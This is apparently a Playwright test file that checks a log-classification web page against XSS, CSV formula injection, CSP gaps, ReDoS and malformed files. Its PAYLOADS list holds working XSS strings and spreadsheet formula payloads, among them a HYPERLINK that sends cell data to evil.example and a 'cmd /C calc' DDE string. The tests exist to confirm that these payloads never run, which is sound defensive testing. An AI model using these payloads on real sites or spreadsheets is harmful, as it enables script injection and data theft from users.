/**
 * Privacy, security and faults in the page:
 * - log text is untrusted: HTML/JS payloads in messages, sources, column names and labels show as
 *   text in the table, the summary, the warnings, the patterns and the training set; nothing runs,
 *   no element is injected, the Content-Security-Policy is never even asked to block anything;
 * - the export is safe for spreadsheets by default, raw on request;
 * - the CSP headers (page, workers and service worker) allow only this origin, the LLM worker its hosts;
 * - a rule that backtracks exponentially runs on RE2 (the editor says so) and does not hang;
 * - bad files end in a clear message or warnings, and the page stays usable;
 * Workers that die, cancel at any point, a corrupt stored bundle, the network indicator and the
 * Storage panel are in recovery.test.ts.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../src/core/csv/format.ts';
import { addRule, baseUrl, download, openSession, parseCsv, useBrowser, type Session } from '../helpers/browser.ts';

const env = useBrowser();

/** Records CSP violations and any sign that a payload ran. */
async function guardedSession(): Promise<Session> {
  const s = await openSession(env.browser, { width: 1400, height: 1000 });
  env.session = s;
  await s.page.evaluate(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  return s;
}

async function noPayloadRan(page: Page): Promise<void> {
  const state = await page.evaluate(() => ({
    xss: (window as unknown as { __xss?: unknown }).__xss,
    violations: (window as unknown as { __violations: string[] }).__violations,
    handlers: document.querySelectorAll('[onerror], [onload], [onclick], [onmouseover]').length,
    injected: document.querySelectorAll('main img, main iframe, main object, main embed, main script, main marquee').length,
  }));
  expect(state).toEqual({ xss: undefined, violations: [], handlers: 0, injected: 0 });
}

const PAYLOADS = [
  '<img src=x onerror="window.__xss=1">',
  '<script>window.__xss=2</script>',
  '"><svg onload=window.__xss=3>',
  "javascript:window.__xss=4//",
  '<iframe src="javascript:window.top.__xss=5"></iframe>',
  '{@html "<b>6</b>"} <b onmouseover=window.__xss=7>bold</b>',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+SUM(1+1)*cmd|\' /C calc\'!A0',
  '-1+2',
  '@SUM(1)',
  '\tcell starting with a tab',
  '-42',
];
const EVIL_COLUMN = '<img src=y onerror="window.__xss=8">';
const EVIL_LABEL = '<img src=z onerror="window.__xss=9">';
const FORMULA_LABEL = '=1+1';

describe('untrusted log text', () => {
  it('is shown as text everywhere and exported safe by default, raw on request', async () => {
    const path = join(env.tmp.dir, 'payloads.csv');
    // Repeated column names (a warning that names them), payloads as messages and sources, a short row (a warning).
    const lines = [csvLine(['source', 'log_message', EVIL_COLUMN, EVIL_COLUMN])];
    PAYLOADS.forEach((p, i) => lines.push(csvLine([`<b>src${i}</b>`, p, p, `x${i}`])));
    lines.push(csvLine(['ModernHR', 'short row']));
    writeFileSync(path, lines.join(''));

    const { page, requests } = await guardedSession();
    // Rules whose labels are payloads too (they reach the summary, the table and the export).
    await addRule(page, 'HYPERLINK', EVIL_LABEL);
    await addRule(page, 'SUM\\(1\\)', FORMULA_LABEL);
    await page.getByTestId('log-file-input').setInputFiles(path);
    await page.getByTestId('summary').waitFor();

    // The table: every payload as literal text.
    await expect.poll(() => page.getByTestId('result-row').count()).toBe(PAYLOADS.length + 1);
    const cells = await page.getByTestId('results-table').innerText();
    for (const p of PAYLOADS) expect(cells).toContain(p.trim());
    expect(cells).toContain(EVIL_LABEL);
    expect(cells).toContain('<b>src0</b>');
    // The summary (labels) and the warnings (column names, the short row).
    const summary = await page.getByTestId('summary').innerText();
    expect(summary).toContain(EVIL_LABEL);
    expect(summary).toContain(`Column names repeat: ${EVIL_COLUMN.toLowerCase()}`);
    expect(summary).toMatch(/has 2 fields, the header has 4/);

    // The patterns mined from these lines.
    await page.getByTestId('discover-patterns').click();
    await page.getByTestId('pattern-list').waitFor();
    const patterns = await page.getByTestId('pattern-list').innerText();
    expect(patterns).toMatch(/<script>|<img|<svg|<iframe/);

    // The training set and its labels (a labelled file with a payload label).
    const labelled = join(env.tmp.dir, 'payload-labels.csv');
    writeFileSync(labelled, [csvLine(['log_message', 'target_label']), ...PAYLOADS.map((p) => csvLine([p, EVIL_LABEL]))].join(''));
    await page.getByRole('tab', { name: 'Training' }).click();
    await page.getByTestId('training-csv-input').setInputFiles(labelled);
    await expect.poll(() => page.getByTestId('class-table').innerText()).toContain(EVIL_LABEL);
    await expect.poll(() => page.getByTestId('training-set').innerText()).toContain(PAYLOADS[0]);
    await page.getByRole('tab', { name: 'Classify' }).click();

    await noPayloadRan(page);
    expect(requests.some((u) => /\/(x|y|z)$/.test(new URL(u).pathname))).toBe(false);

    // Safe export (the default): formulas neutralised, plain numbers kept, everything else as it was.
    const safe = parseCsv((await download(page)).text);
    expect(safe.rows).toHaveLength(PAYLOADS.length + 1);
    const byIndex = (i: number) => safe.rows[i];
    expect(byIndex(6).log_message).toBe(`'${PAYLOADS[6]}`);
    expect(byIndex(6).target_label).toBe(EVIL_LABEL);
    expect(byIndex(7).log_message).toBe(`'${PAYLOADS[7]}`);
    expect(byIndex(8).log_message).toBe(`'-1+2`);
    expect(byIndex(9).log_message).toBe(`'@SUM(1)`);
    expect(byIndex(9).target_label).toBe(`'${FORMULA_LABEL}`);
    expect(byIndex(10).log_message).toBe(`'\tcell starting with a tab`);
    expect(byIndex(11).log_message).toBe('-42');
    expect(byIndex(0).log_message).toBe(PAYLOADS[0]);
    expect(safe.fields[2]).toBe(EVIL_COLUMN);
    expect(await page.getByTestId('export-note').innerText()).toMatch(/Safe for spreadsheets/);

    // Raw export: exactly as read.
    await page.getByTestId('raw-export').check();
    expect(await page.getByTestId('export-note').innerText()).toMatch(/Raw:.*formulas/);
    const raw = parseCsv((await download(page)).text);
    expect(raw.rows.map((r) => r.log_message)).toEqual([...PAYLOADS, 'short row']);
    expect(raw.rows[9].target_label).toBe(FORMULA_LABEL);
    await noPayloadRan(page);
  });
});

describe('Content-Security-Policy', () => {
  it('the page, its workers and the LLM worker get their policies; the page cannot reach another origin', async () => {
    const { page } = await guardedSession();
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toMatch(/default-src 'self'/);
    const directive = (policy: string, name: string) => policy.split(';').map((d) => d.trim()).find((d) => d.startsWith(`${name} `));
    // No inline script, no eval: WebAssembly may compile ('wasm-unsafe-eval' runs no JavaScript text).
    expect(directive(meta!, 'script-src')).toBe("script-src 'self' 'wasm-unsafe-eval'");
    expect(meta).toMatch(/connect-src 'self' blob: data:(;|$)/);
    const assets = await page.evaluate(() => performance.getEntriesByType('resource').map((e) => e.name));
    const workerUrl = assets.find((u) => /classify\.worker-.*\.js$/.test(u));
    expect(workerUrl).toBeTruthy();
    const header = async (url: string) => (await fetch(url)).headers.get('content-security-policy') ?? '';
    const pageCsp = await header(baseUrl());
    expect(pageCsp).toMatch(/frame-ancestors 'none'/);
    expect(pageCsp).toMatch(/connect-src 'self' blob: data:;/);
    expect(await header(workerUrl!)).toBe(pageCsp);
    // The service worker runs under its own script's policy: the page's.
    expect(await header(new URL('/sw.js', baseUrl()).href)).toBe(pageCsp);
    expect(readFileSync(resolve(import.meta.dirname, '../../dist/_headers'), 'utf8')).toContain(`/sw.js\n  Content-Security-Policy: ${pageCsp}\n`);
    // The LLM worker's script: the LLM hosts on top.
    const llmUrl = await page.evaluate(async () => {
      const js = [...document.querySelectorAll('script[src]')].map((s) => (s as HTMLScriptElement).src)[0];
      const text = await (await fetch(js)).text();
      return new URL(text.match(/assets\/llm\.worker-[\w-]+\.js/)?.[0] ?? '', location.href).href;
    });
    expect(llmUrl).toMatch(/llm\.worker-/);
    const llmCsp = await header(llmUrl);
    expect(llmCsp).toMatch(/connect-src 'self' blob: data: https:\/\/api\.groq\.com .*http:\/\/127\.0\.0\.1:\*/);
    expect(llmCsp).toMatch(/script-src 'self' 'wasm-unsafe-eval';/);
    // No inline script in the page.
    expect(await page.locator('script:not([src])').count()).toBe(0);
    // The page itself cannot fetch another origin (the same host on another port is another origin).
    const other = `http://127.0.0.1:${Number(new URL(baseUrl()).port) === 9 ? 10 : 9}/`;
    const outcome = await page.evaluate(async (url) => {
      try {
        await fetch(url);
        return 'fetched';
      } catch {
        return 'refused';
      }
    }, other);
    expect(outcome).toBe('refused');
    const violations = await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
    expect(violations.some((v) => v.startsWith('connect-src'))).toBe(true);
  });
});

describe('rules cannot hang the page', () => {
  it('shows the engine of each rule and runs ^(a+)+$ on RE2 over 100,000 a and a !', async () => {
    const { page } = await guardedSession();
    const editor = page.getByTestId('rules-editor');
    await editor.getByRole('button', { name: 'Add rule' }).click();
    const rule = editor.getByTestId('rule').last();
    await rule.getByTestId('rule-pattern').fill('^(a+)+$');
    await rule.getByTestId('rule-flags').fill('');
    await rule.getByTestId('rule-label').fill('Security Alert');
    await expect.poll(() => rule.getByTestId('rule-engine').getAttribute('data-engine')).toBe('re2');
    expect(await rule.getByTestId('rule-engine').innerText()).toMatch(/RE2, a linear-time engine/);
    // A plain rule runs on the browser's engine.
    await expect.poll(() => editor.getByTestId('rule').first().getByTestId('rule-engine').getAttribute('data-engine')).toBe('native');
    await editor.getByTestId('save-rules').click();
    await expect.poll(() => editor.getByTestId('rules-status').innerText()).toMatch(/Rules saved/);

    const path = join(env.tmp.dir, 'redos.csv');
    writeFileSync(path, csvLine(['log_message']) + csvLine(['a'.repeat(100_000) + '!']) + csvLine(['aaaa']) + csvLine(['User User1 logged in.']));
    const started = Date.now();
    await page.getByTestId('log-file-input').setInputFiles(path);
    await page.getByTestId('summary').waitFor({ timeout: 20_000 });
    expect(Date.now() - started).toBeLessThan(15_000);
    const out = parseCsv((await download(page)).text);
    expect(out.rows).toHaveLength(3);
    expect(out.rows[0].target_label).not.toBe('Security Alert');
    expect(out.rows[1].target_label).toBe('Security Alert');
    // The page answered all along.
    expect(await page.evaluate(() => 1 + 1)).toBe(2);
  });
});

describe('bad files', () => {
  it('empty, binary, no message column, UTF-16, unbalanced quotes: a clear message or warnings, no lost rows', async () => {
    const { page } = await guardedSession();
    const alert = page.getByRole('alert').filter({ hasText: 'This file could not be classified' });
    const tryFile = async (name: string, content: string | Buffer) => {
      const path = join(env.tmp.dir, name);
      writeFileSync(path, content);
      await page.getByTestId('log-file-input').setInputFiles(path);
    };

    await tryFile('empty.csv', '');
    await alert.waitFor();
    expect(await alert.innerText()).toMatch(/empty/i);

    await tryFile('binary.csv', Buffer.from([0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0, 0x14, 0, 0, 0, 0xff, 0xfe, 0, 0, 1, 2, 3]));
    await expect.poll(() => alert.innerText()).toMatch(/binary|not a text/i);

    await tryFile('nocolumn.csv', 'when,what\n1,2\n');
    await expect.poll(() => alert.innerText()).toMatch(/No log message column found/);

    // UTF-16 with a BOM: read correctly.
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('source,log_message\nModernHR,User User7 logged in.\n', 'utf16le')]);
    await tryFile('utf16.csv', utf16);
    await page.getByTestId('summary').waitFor();
    expect(await page.getByTestId('summary-rows').innerText()).toBe('1');
    expect(await page.getByTestId('results-table').innerText()).toContain('User User7 logged in.');

    // An unbalanced quote: the rows are kept, with a warning.
    await tryFile('quotes.csv', 'source,log_message\nA,"never closed\nB,second line\nC,third\n');
    await page.getByTestId('summary').waitFor();
    await expect.poll(() => page.getByTestId('summary').innerText()).toMatch(/Warnings/);
    expect(await page.getByTestId('summary').innerText()).toMatch(/quote|could not be parsed/i);
    await noPayloadRan(page);
  });
});
